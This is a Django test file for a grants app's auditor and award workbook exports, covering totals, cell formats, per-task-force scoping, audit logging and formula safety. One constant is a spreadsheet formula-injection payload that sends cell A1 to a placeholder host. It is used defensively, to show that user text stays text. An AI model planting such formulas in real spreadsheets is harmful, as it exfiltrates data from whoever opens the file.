"""The auditor workbook (whole program, one fiscal year) and the award workbook, opened as
an auditor would: real types, formats, totals that equal the app's, nothing out of scope."""

import hashlib
import os
import shutil
import subprocess
import types
import uuid
from datetime import date, datetime
from decimal import Decimal
from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from budgets.ledger_days import LINE_SUMS
from budgets.models import BudgetLine, LedgerEntry
from grants import selectors
from grants.audit import AuditEvent
from grants.models import Award
from grants.money import CENT, ZERO, MoneySum
from grants.services import hold_place
from reports.exports.workbooks import Selection, selection_sheets
from tests.reports.conftest import submit
from tests.reports.prepared_helpers import fetch_prepared
from tests.reports.workbook_helpers import (
    data_rows,
    labelled_totals,
    open_workbook,
    response_bytes,
)

D = Decimal
HYPERLINK = '=HYPERLINK("http://x.invalid/?"&A1,"Open")'
BRAVO_MEMO = "Bravo-only memo"


@pytest.fixture
def filed(example):
    """Task force A's example award with two SF-425s filed (one returned); task force B's
    award with money and a hold of its own, so a leak would show."""
    program = example
    award = program.example
    submit(program, award, date(2024, 12, 31))
    submit(program, award, date(2025, 3, 31))
    hold_place(actor=program.pm, award=award, reason=HYPERLINK)
    Award.objects.filter(pk=program.award_b.pk).update(status="active")
    LedgerEntry.objects.create(
        award=program.award_b,
        kind="drawdown",
        amount=D("777.77"),
        effective_date=date(2025, 1, 5),
        actor=program.officer_b,
        idempotency_key=uuid.uuid4(),
        memo=BRAVO_MEMO,
    )
    hold_place(actor=program.pm, award=program.award_b, reason="Bravo-only hold")
    return program


def _selector_ledger_totals(awards) -> dict[str, Decimal]:
    sums = LedgerEntry.objects.filter(award__in=awards).aggregate(**LINE_SUMS)
    return {name: total.quantize(CENT) for name, total in sums.items()}


def _approved_budget(awards) -> dict[str, Decimal]:
    return {
        k: v.quantize(CENT)
        for k, v in BudgetLine.objects.filter(version__award__in=awards, version__status="approved")
        .aggregate(
            federal=MoneySum("federal_amount", default=ZERO),
            non_federal=MoneySum("non_federal_amount", default=ZERO),
        )
        .items()
    }


def test_program_workbook_totals_equal_the_apps_totals(client, filed):
    client.force_login(filed.auditor)
    wb = open_workbook(fetch_prepared(client, reverse("exports:program_workbook")))
    assert wb.sheetnames == [
        "Appropriations",
        "Funding lines",
        "Awards",
        "Amendments",
        "Budget versions",
        "Budget lines",
        "Ledger",
        "Drawdowns",
        "SF-425 reports",
        "Performance measures",
        "Holds",
        "Audit events",
        "About",
    ]
    chain = selectors.money_chain(user=filed.auditor)
    totals = labelled_totals(wb["Appropriations"])
    assert totals["Total Appropriated"] == chain.appropriated == D("1000000.00")
    assert totals["Total Set aside"] == chain.set_aside
    assert totals["Total Awarded"] == chain.awarded == D("900000.00")
    assert totals["Total Deobligated"] == chain.deobligated
    assert totals["Total Not yet awarded"] == chain.not_yet_awarded
    assert labelled_totals(wb["Funding lines"])["Total Amount"] == chain.awarded
    assert labelled_totals(wb["Awards"])["Total Federal amount"] == D("900000.00")

    ledger = labelled_totals(wb["Ledger"])
    expected = _selector_ledger_totals(Award.objects.all())
    assert ledger == {
        "Cash receipts (10a)": expected["drawn"],
        "Cash disbursements (10b)": expected["disbursed"],
        "Federal expenditures (10e)": expected["federal_expenditures"],
        "Recipient expenditures (10j)": expected["recipient_expenditures"],
        "Obligations": expected["obligated"],
        "Program income (10l)": expected["program_income"],
        "Program income expended (10m or 10n)": expected["program_income_spent"],
        "Interest earned": expected["interest_earned"],
        "Interest remitted": expected["interest_remitted"],
        "Deobligated": expected["deobligated"],
    }
    assert ledger["Cash receipts (10a)"] == D("210777.77")  # A's 210,000.00 and B's 777.77

    budget = labelled_totals(wb["Budget lines"])
    approved = _approved_budget(Award.objects.all())
    assert budget["Approved budgets, federal"] == approved["federal"] == D("900000.00")
    assert budget["Approved budgets, non-federal"] == approved["non_federal"]

    drawdowns = labelled_totals(wb["Drawdowns"])
    assert drawdowns["Paid"] == drawdowns["Total Amount"] == D("210000.00")


def test_cells_keep_their_types_and_formats(client, filed):
    client.force_login(filed.auditor)
    wb = open_workbook(fetch_prepared(client, reverse("exports:program_workbook"), {"fy": "2025"}))
    ws = wb["Ledger"]
    header = [c.value for c in ws[1]]
    assert header[:4] == ["Award number", "Entry", "Date", "Kind"]
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref.startswith("A1:P")
    assert (ws["A2"].data_type, ws["A2"].value) == ("s", "15PJDP-25-GK-00002-MECP")
    assert ws["B2"].data_type == "n"  # entry ids are numbers, for sorting and lookups
    amount = next(c for c in ws["I"][1:] if c.value is not None)
    assert amount.data_type == "n" and amount.number_format == "#,##0.00"
    day = ws["C2"]
    assert isinstance(day.value, datetime) and day.number_format == "yyyy-mm-dd"
    assert ws["P2"].number_format == "yyyy-mm-dd hh:mm:ss"
    assert all(c.data_type == "s" for c in ws["A"][1:] if c.value)  # award numbers are text
    reports = wb["SF-425 reports"]
    rows = data_rows(reports)
    assert [(r[0], r[2].date(), r[4]) for r in rows] == [
        ("15PJDP-25-GK-00072-MECP", date(2024, 12, 31), "Submitted"),
        ("15PJDP-25-GK-00072-MECP", date(2025, 3, 31), "Submitted"),
    ]
    headers = [c.value for c in reports[1]]
    cash_on_hand = headers.index("10c Cash on hand (10a − 10b)")
    # The certified numbers of docs/rules/worked-examples.md#sf-425-for-a-quarter, as
    # numbers with the money format.
    assert D(str(rows[1][cash_on_hand])) == D("11500.00")
    assert reports.cell(row=3, column=cash_on_hand + 1).number_format == "#,##0.00"
    about = dict(wb["About"].iter_rows(values_only=True))
    assert about["Selection"] == "Fiscal year 2025" and about["Scope"] == "every task force"
    assert about["Rows in Ledger"] == str(LedgerEntry.objects.count())
    assert about["Audit events"] == "Events from October 1, 2024 to September 30, 2025"


def test_running_balances_follow_ledger_order(client, filed):
    client.force_login(filed.auditor)
    wb = open_workbook(
        fetch_prepared(client, reverse("exports:award_workbook", args=["15PJDP-25-GK-00072-MECP"]))
    )
    rows = data_rows(wb["Ledger"])
    last = rows[-1]
    # After every entry of the example: 210,000.00 drawn - 198,500.00 disbursed; 205,000.00 spent.
    assert (D(str(last[9])), D(str(last[10]))) == (D("11500.00"), D("205000.00"))


def test_user_text_that_looks_like_a_formula_stays_text(client, filed):
    client.force_login(filed.auditor)
    wb = open_workbook(fetch_prepared(client, reverse("exports:program_workbook")))
    reasons = [c for c in wb["Holds"]["C"][1:] if c.value and "HYPERLINK" in c.value]
    # Shown as typed, stored as text with the quotePrefix style: never run as a formula.
    assert [(c.value, c.data_type, c.quotePrefix) for c in reasons] == [(HYPERLINK, "s", True)]
    assert not any(
        c.data_type == "f" and "HYPERLINK" in c.value
        for ws in wb
        for row in ws.iter_rows()
        for c in row
    )


def test_finance_officer_gets_only_their_task_force(client, filed):
    client.force_login(filed.officer_a)
    wb = open_workbook(fetch_prepared(client, reverse("exports:program_workbook")))
    assert "Appropriations" not in wb.sheetnames
    text = " ".join(
        str(v) for ws in wb for row in ws.iter_rows(values_only=True) for v in row if v is not None
    )
    for leak in ("15PJDP-25-GK-00002-MECP", "Bravo ICAC Task Force", BRAVO_MEMO, "Bravo-only hold"):
        assert leak not in text
    assert "15PJDP-25-GK-00072-MECP" in text
    ledger = labelled_totals(wb["Ledger"])
    mine = Award.objects.filter(task_force=filed.task_force_a)
    assert ledger["Cash receipts (10a)"] == _selector_ledger_totals(mine)["drawn"] == D("210000.00")
    events = data_rows(wb["Audit events"])
    assert events and {r[4] for r in events} == {"Alpha ICAC Task Force"}
    about = dict(wb["About"].iter_rows(values_only=True))
    assert about["Scope"] == "your task force only: Alpha ICAC Task Force"
    assert "Appropriations" in about["Left out"]


def test_fiscal_year_filter_and_bad_input(client, filed):
    client.force_login(filed.pm)
    wb = open_workbook(fetch_prepared(client, reverse("exports:program_workbook"), {"fy": "2019"}))
    assert data_rows(wb["Awards"]) == [] and data_rows(wb["Appropriations"]) == []
    assert dict(wb["About"].iter_rows(values_only=True))["Rows in Ledger"] == "0"
    response = client.get(reverse("exports:program_workbook"), {"fy": "=1+1"})
    assert response.status_code == 400
    assert response.content.decode() == (
        "Fiscal year (fy) must be a year from 1998 to 2100, such as 2025; got '=1+1'."
    )


def test_download_is_audited_with_the_files_digests(client, filed):
    client.force_login(filed.auditor)
    before = AuditEvent.objects.filter(action="reports.export.downloaded").count()
    content = response_bytes(
        fetch_prepared(client, reverse("exports:program_workbook"), {"fy": "2025"})
    )
    event = AuditEvent.objects.filter(action="reports.export.downloaded").latest("pk")
    assert AuditEvent.objects.filter(action="reports.export.downloaded").count() == before + 1
    about = dict(load_workbook(BytesIO(content))["About"].iter_rows(values_only=True))
    assert event.actor == filed.auditor
    assert event.data["export"] == "prepared_workbook" and event.data["fiscal_year"] == 2025
    assert event.data["file_sha256"] == hashlib.sha256(content).hexdigest()
    # Its preparation records what the file holds: the rows of each sheet, the data's digest.
    written = AuditEvent.objects.get(action="reports.export.prepared", object_id=event.object_id)
    assert written.data["file_sha256"] == event.data["file_sha256"]
    assert written.data["data_sha256"] == about["SHA-256 of the data"]
    assert written.data["sheets"]["Ledger"] == LedgerEntry.objects.count()


def test_award_workbook_holds_the_award_only(client, filed):
    number = "15PJDP-25-GK-00072-MECP"
    client.force_login(filed.officer_a)
    wb = open_workbook(fetch_prepared(client, reverse("exports:award_workbook", args=[number])))
    assert wb.sheetnames == [
        "Funding lines",
        "Terms",
        "Amendments",
        "Budget versions",
        "Budget lines",
        "Ledger",
        "Drawdowns",
        "SF-425 reports",
        "Performance measures",
        "Holds",
        "About",
    ]
    assert [r[0] for r in data_rows(wb["Terms"])] == [number]
    assert {r[0] for r in data_rows(wb["Ledger"])} == {number}
    award = Award.objects.get(award_number=number)
    assert labelled_totals(wb["Terms"])["Total Federal amount"] == award.federal_amount
    client.force_login(filed.officer_b)
    assert client.get(reverse("exports:award_workbook", args=[number])).status_code == 404


def test_every_sheet_streams_from_an_iterator(filed):
    """The rows are generators over queryset iterators, consumed as the file is written."""
    sheets = selection_sheets(user=filed.auditor, selection=Selection())
    assert all(isinstance(sheet.rows, types.GeneratorType) for sheet in sheets)


def test_download_links_on_the_pages(client, filed):
    client.force_login(filed.auditor)
    home = client.get(reverse("home"), {"fy": "2025"}).content.decode()
    # The program's files are prepared in the background (tests/reports/test_prepared_downloads.py).
    assert f'action="{reverse("exports:prepare_download")}"' in home
    for testid in ("workbook-2025", "workbook", "ledger_csv", "pack-2025"):
        assert f'data-testid="prepare-{testid}"' in home
    number = filed.example.award_number
    page = client.get(reverse("grants:award_detail", args=[number])).content.decode()
    # An award's workbook and pack are prepared in the background too.
    assert f'<input type="hidden" name="award" value="{number}">' in page
    assert 'data-testid="prepare-workbook"' in page and 'data-testid="prepare-pack"' in page
    assert reverse("exports:award_workbook", args=[number]) not in page
    page = client.get(reverse("grants:task_force_detail", args=["va-alpha"])).content.decode()
    assert '<input type="hidden" name="task_force" value="va-alpha">' in page
    assert 'data-testid="prepare-pack"' in page and 'data-testid="prepare-ledger_csv"' in page


SOFFICE = shutil.which("soffice")


def test_libreoffice_opens_the_file_and_recalculates_the_same_totals(client, filed, tmp_path):
    if SOFFICE is None:
        message = "LibreOffice (soffice) is not installed"
        if os.environ.get("CI") == "true":
            pytest.fail(message + "; .ci/run installs libreoffice-calc")
        pytest.skip(message)
    client.force_login(filed.auditor)
    source = tmp_path / "workbook.xlsx"
    source.write_bytes(response_bytes(fetch_prepared(client, reverse("exports:program_workbook"))))
    ours = load_workbook(source)
    expected = {
        name: labelled_totals(ours[name])
        for name in ("Appropriations", "Ledger", "Budget lines", "Drawdowns")
    }
    out = tmp_path / "out"
    result = subprocess.run(
        [
            SOFFICE,
            f"-env:UserInstallation=file://{tmp_path}/profile",
            "--headless",
            "--calc",
            "--convert-to",
            "xlsx:Calc MS Excel 2007 XML",
            "--outdir",
            str(out),
            str(source),
        ],
        capture_output=True,
        timeout=120,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    recalculated = load_workbook(out / "workbook.xlsx", data_only=True)
    for name, totals in expected.items():
        ws = recalculated[name]
        found = {}
        headers = [c.value for c in ws[1]]
        formulas = ours[name]
        for row in formulas.iter_rows(min_row=2):
            label = row[0].value
            for cell in row[1:]:
                if isinstance(cell.value, str) and cell.value.startswith("=S"):
                    key = f"Total {headers[cell.column - 1]}" if label == "Total" else label
                    found[key] = D(str(ws.cell(row=cell.row, column=cell.column).value)).quantize(
                        CENT
                    )
        assert found == totals, name
    assert recalculated.sheetnames == ours.sheetnames


def _queries_for_program_workbook(user) -> int:
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from reports.exports.workbooks import selection_about
    from reports.exports.xlsx import write_workbook

    with CaptureQueriesContext(connection) as captured:
        selection = Selection()
        sheets = selection_sheets(user=user, selection=selection)
        write_workbook(
            BytesIO(), sheets=sheets, about=selection_about(user=user, selection=selection)
        )
    return len(captured.captured_queries)


def test_query_count_does_not_grow_with_the_rows(filed):
    """One query per sheet, however many rows: no query per award, entry or report."""
    _queries_for_program_workbook(filed.auditor)  # the user's groups are read once, then kept
    before = _queries_for_program_workbook(filed.auditor)
    assert before == 13  # one per sheet, and the rule values the Appropriations sheet reads
    award = filed.example
    for day in (date(2025, 4, 1), date(2025, 4, 2), date(2025, 4, 3)):
        LedgerEntry.objects.create(
            award=award,
            kind="disbursement",
            amount=D("1.00"),
            effective_date=day,
            actor=filed.officer_a,
            idempotency_key=uuid.uuid4(),
        )
    hold_place(actor=filed.pm, award=filed.award_b, reason="Second hold")
    submit(filed, award, date(2025, 6, 30), today=date(2025, 7, 10))
    assert _queries_for_program_workbook(filed.auditor) == before


@pytest.fixture
def postgres_only():
    from django.contrib.contenttypes.models import ContentType
    from django.db import connection

    if connection.vendor != "postgresql":
        pytest.skip("SQLite exports read in autocommit; the snapshot is PostgreSQL's")
    # Content-type ids cached by earlier tests may not survive their flush.
    ContentType.objects.clear_cache()


# serialized_rollback: the flush after a transactional test would otherwise take the
# roles and rule values the migrations seeded away from the tests that follow.
@pytest.mark.postgres
@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_every_sheet_reads_the_same_moment(postgres_only, committed_program):
    """An entry committed by someone else mid-export is not in the file."""
    import threading

    from django.db import connection as default_connection

    from reports.exports.workbooks import consistent_snapshot

    program = committed_program
    Award.objects.filter(pk=program.award_a.pk).update(status="active")

    def post_elsewhere():
        LedgerEntry.objects.create(
            award=program.award_a,
            kind="disbursement",
            amount=D("1.00"),
            effective_date=date(2025, 4, 1),
            actor=program.officer_a,
            idempotency_key=uuid.uuid4(),
        )
        default_connection.close()

    with consistent_snapshot():
        before = LedgerEntry.objects.count()
        thread = threading.Thread(target=post_elsewhere)
        thread.start()
        thread.join()
        assert LedgerEntry.objects.count() == before
    assert LedgerEntry.objects.count() == before + 1


def test_cash_returned_comes_off_cash_receipts_in_the_ledger_sheet(client, filed):
    from budgets import ledger

    ledger.entry_post(
        actor=filed.officer_a,
        award=filed.example,
        kind="cash_returned",
        amount=D("1500.25"),
        effective_date=date(2025, 3, 20),
        memo="Not needed within 10 days",
        idempotency_key=uuid.uuid4(),
        today=date(2025, 3, 20),
    )
    client.force_login(filed.auditor)
    sheet = open_workbook(fetch_prepared(client, reverse("exports:program_workbook")))["Ledger"]
    totals = labelled_totals(sheet)
    assert totals["Cash receipts (10a)"] == _selector_ledger_totals(Award.objects.all())["drawn"]
    client.force_login(filed.officer_a)
    mine = labelled_totals(
        open_workbook(fetch_prepared(client, reverse("exports:program_workbook")))["Ledger"]
    )
    assert mine["Cash receipts (10a)"] == D("210000.00") - D("1500.25")


def test_an_audit_row_says_who_did_what_when_and_to_what(program, settings, monkeypatch):
    """Each event as a row: its number, the local wall-clock time, the actor ("system"
    when none), the action, the task force, the object's type, id and name, and the
    details as sorted JSON."""
    from django.utils import timezone

    from grants.audit import audit_record
    from reports.exports.workbooks import audit_sheet

    settings.TIME_ZONE = "America/New_York"
    award = program.award_a
    moment = datetime.fromisoformat("2025-01-02T03:04:05+00:00")
    monkeypatch.setattr(timezone, "now", lambda: moment)
    by_person = audit_record(
        actor=program.pm,
        action="grants.award.test",
        obj=award,
        task_force=award.task_force,
        data={"b": Decimal("1.50"), "a": "x"},
    )
    by_system = audit_record(actor=None, action="grants.duty.test")
    sheet = audit_sheet(
        selectors.audit_events_for_user(user=program.auditor).filter(
            pk__in=[by_person.pk, by_system.pk]
        )
    )

    person, system = list(sheet.rows)
    assert person == (
        by_person.pk,
        datetime(2025, 1, 1, 22, 4, 5),  # 3:04 a.m. UTC is 10:04 p.m. the day before
        program.pm.username,
        "grants.award.test",
        award.task_force.name,
        "award",
        str(award.pk),
        str(award),
        '{"a": "x", "b": "1.50"}',
    )
    assert system[2:6] == ("system", "grants.duty.test", "", "")
    assert sheet.count() == 2
